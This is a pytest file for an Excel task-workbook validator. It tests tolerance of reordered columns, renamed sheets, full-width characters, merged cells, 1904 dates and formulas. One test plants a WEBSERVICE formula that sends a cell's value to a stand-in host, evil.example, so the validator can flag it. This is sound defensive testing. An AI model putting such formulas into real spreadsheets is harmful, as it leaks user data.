"""What people do that is not an error: reordered and extra columns, renamed sheets, blank rows,
formatted empty rows, merged cells, full-width characters, English workbooks, 1904 dates,
formulas with cached values — and the formula cases that are errors."""
from __future__ import annotations

import datetime as dt
import re
import time
import zipfile

import openpyxl
import pytest
from openpyxl.styles import PatternFill
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from validate_helpers import fill, filled_workbook, patch_parts, task
from xlflow.check.validate import check_file, task_rows
from xlflow.output.department import generate_workbook
from xlflow.xlsx.read import read_workbook

UPDATE = {"update_date": dt.date(2026, 11, 20)}


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    root = tmp_path_factory.mktemp("tolerance")
    ws, blank, filled = filled_workbook(root, [task(1), task(2, predecessors="RD-001"),
                                               task(3, status="已完成", percent=100)])
    return ws, blank, filled, root


def edited(env, name, edit):
    ws, _, filled, root = env
    wb = openpyxl.load_workbook(filled)
    edit(wb)
    wb.save(root / name)
    return check_file(root / name, ws)


def codes(sub):
    return [(f.code, f.cell) for f in sub.report.findings]


def ids(sub):
    return [r.values["task_id"] for r in task_rows(sub)]


def test_reordered_and_extra_columns(env):
    def edit(wb):
        sheet = wb["任务分解表"]
        for row in range(7, 11):  # swap task name (B) and status (H)
            b, h = sheet.cell(row, 2), sheet.cell(row, 8)
            b.value, h.value = h.value, b.value
        sheet.insert_cols(4)
        sheet.cell(7, 4).value = "我的备注"
        sheet.cell(8, 4).value = "自己加的列"
        sheet.cell(8, 7).value = "2026/13/01"  # due date, now in column G
    sub = edited(env, "reordered.xlsx", edit)
    assert codes(sub) == [("impossible-date", "G8")]
    assert ids(sub) == ["RD-001", "RD-002", "RD-003"] and task_rows(sub)[1].values["status"] == "in_progress"


def test_renamed_sheet_found_by_content(env):
    sub = edited(env, "renamed.xlsx", lambda wb: setattr(wb["任务分解表"], "title", "我们的任务"))
    assert sub.valid and ids(sub) == ["RD-001", "RD-002", "RD-003"]
    assert sub.data.forms["wbs"].sheet == "我们的任务"


def test_blank_rows_and_thousands_of_formatted_empty_rows(env):
    def edit(wb):
        sheet = wb["任务分解表"]
        for col in range(1, 15):
            sheet.cell(20, col).value = sheet.cell(10, col).value
            sheet.cell(10, col).value = None
        grey = PatternFill("solid", fgColor="EEEEEE")
        for row in range(300, 5300):
            for col in (1, 2, 8):
                sheet.cell(row, col).fill = grey
    start = time.perf_counter()
    sub = edited(env, "sparse.xlsx", edit)
    assert time.perf_counter() - start < 5
    assert sub.valid, codes(sub)
    assert [r.excel_row for r in task_rows(sub)] == [8, 9, 20]


def test_full_width_characters_stray_spaces_and_marked_headers(env):
    def edit(wb):
        sheet = wb["任务分解表"]
        sheet["A7"].value = " 任务编号 ＊"
        sheet["H7"].value = "状态："
        sheet["A8"].value = "ＲＤ－００１"
        sheet["I8"].value = "５０"
        sheet["F8"].value = "２０２６／１１／２０"
        sheet["G9"].value = "RD-001，  "
        sheet["H9"].value = "  进行中 "
    sub = edited(env, "fullwidth.xlsx", edit)
    assert codes(sub) == [("text-date", "F8")] and sub.valid
    first = task_rows(sub)[0].values
    assert first["task_id"] == "RD-001" and first["percent"] == 50.0 and first["due"] == dt.date(2026, 11, 20)


def test_merged_cells_in_data_rows_fill_down_with_a_warning(env):
    def edit(wb):
        sheet = wb["任务分解表"]
        sheet["D9"].value = sheet["D10"].value = None
        sheet.merge_cells("D8:D10")
    sub = edited(env, "merged.xlsx", edit)
    assert codes(sub) == [("merged-cells", "D8:D10")] and sub.valid
    assert [r.values["owner"] for r in task_rows(sub)] == ["王磊"] * 3


def test_english_workbook(env, tmp_path):
    ws = env[0]
    blank = generate_workbook(ws, "MK", "en", tmp_path / "mk.xlsx")
    row = task(1, dept="MK", owner_department="Marketing", status="Delayed", reason="Agency late")
    sub = check_file(fill(ws, blank, tmp_path / "mk_filled.xlsx", {"wbs": {"card": UPDATE, "tables": {"tasks": [
        row, task(2, dept="MK", owner_department="marketing", status="Bogus")]}}}), ws)
    assert codes(sub) == [("bad-enum", "H9")] and sub.department == "MK"
    assert sub.report.findings[0].field == "Status"
    assert task_rows(sub)[0].values["status"] == "delayed"


def test_1904_date_system(env):
    def edit(wb):
        wb.epoch = CALENDAR_MAC_1904
    sub = edited(env, "mac1904.xlsx", edit)
    assert sub.valid and task_rows(sub)[0].values["start"] == dt.date(2026, 9, 1)
    assert sub.data.forms["wbs"].card["update_date"] == dt.date(2026, 11, 20)


def test_ids_stay_text(env):
    issue = {"issue_id": "001", "kind": "风险", "description": "x", "raised_by": "研发部",
             "raised_date": dt.date(2026, 9, 10), "impact": "低", "owner": 7, "status": "未关闭"}
    ws, blank, _, root = env
    sub = check_file(fill(ws, blank, root / "ids.xlsx", {"issues": {"tables": {"log": [issue]}}}), ws)
    assert sub.valid
    values = sub.data.rows("issues", "log")[0].values
    assert values["issue_id"] == "001" and values["owner"] == "7"


def _formula_file(env, name, formulas: dict[str, str], cached: dict[str, str]):
    """Formulas written by openpyxl (no cached value); `cached` then stores a result for some of them."""
    ws, _, filled, root = env
    wb = openpyxl.load_workbook(filled)
    for ref, formula in formulas.items():
        wb["任务分解表"][ref].value = formula
    path = root / name
    wb.save(path)
    with zipfile.ZipFile(path) as zf:
        sheet_part = next(n for n in zf.namelist() if n.startswith("xl/worksheets/") and
                          b"<f>" in zf.read(n))
        xml = zf.read(sheet_part).decode()
    for ref, value in cached.items():
        kind = "" if value.isdigit() else ' t="str"'
        xml = re.sub(rf'<c r="{ref}"([^>]*)>(<f>[^<]*</f>)<v\s*/>', rf'<c r="{ref}"\1{kind}>\2<v>{value}</v>', xml)
        xml = re.sub(rf'<c r="{ref}"([^>]*)>(<f>[^<]*</f>)<v></v>', rf'<c r="{ref}"\1{kind}>\2<v>{value}</v>', xml)
    with zipfile.ZipFile(path) as zf:
        original = zf.read(sheet_part)
    return patch_parts(path, {original: xml.encode()})


def test_formulas_cached_missing_and_outside(env):
    path = _formula_file(env, "formulas.xlsx",
                         {"I8": "=40+10", "I9": "=20+30", "B10": '=HYPERLINK("http://evil.example/x","点我")',
                          "K8": "=WEBSERVICE(\"http://evil.example/?\"&B8)", "L9": "=[1]Sheet1!A1"},
                         {"I8": "50", "B10": "点我"})
    sub = check_file(path, env[0])
    assert codes(sub) == [("external-formula", "K8"), ("formula-no-value", "I9"), ("external-formula", "L9"),
                          ("external-formula", "B10")]
    rows = task_rows(sub)
    assert rows[0].values["percent"] == 50.0 and rows[0].values["deliverable"] is None
    assert rows[2].values["name"] is None


def test_cjk_builtin_date_format_is_a_date(tmp_path):
    """numFmtId 31 (年月日) is unknown to openpyxl, which returns a serial number; ours is a date."""
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    path = tmp_path / "cjk.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("xl/workbook.xml", b'<workbook xmlns="' + main + b'" xmlns:r="' + rel + b'"><sheets>'
                    b'<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>')
        zf.writestr("xl/_rels/workbook.xml.rels", b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    b'<Relationship Id="rId1" Type="' + rel + b'/worksheet" Target="worksheets/sheet1.xml"/>'
                    b'<Relationship Id="rId2" Type="' + rel + b'/styles" Target="styles.xml"/></Relationships>')
        zf.writestr("xl/styles.xml", b'<styleSheet xmlns="' + main + b'"><cellXfs count="2"><xf numFmtId="0"/>'
                    b'<xf numFmtId="31" applyNumberFormat="1"/></cellXfs></styleSheet>')
        zf.writestr("xl/worksheets/sheet1.xml", b'<worksheet xmlns="' + main + b'"><sheetData><row r="1">'
                    b'<c r="A1" s="1"><v>45444</v></c><c r="B1"><v>45444</v></c></row></sheetData></worksheet>')
    sheet = read_workbook(path).sheets[0]
    assert sheet.value(1, 1) == dt.datetime(2024, 6, 1) and sheet.value(1, 2) == 45444
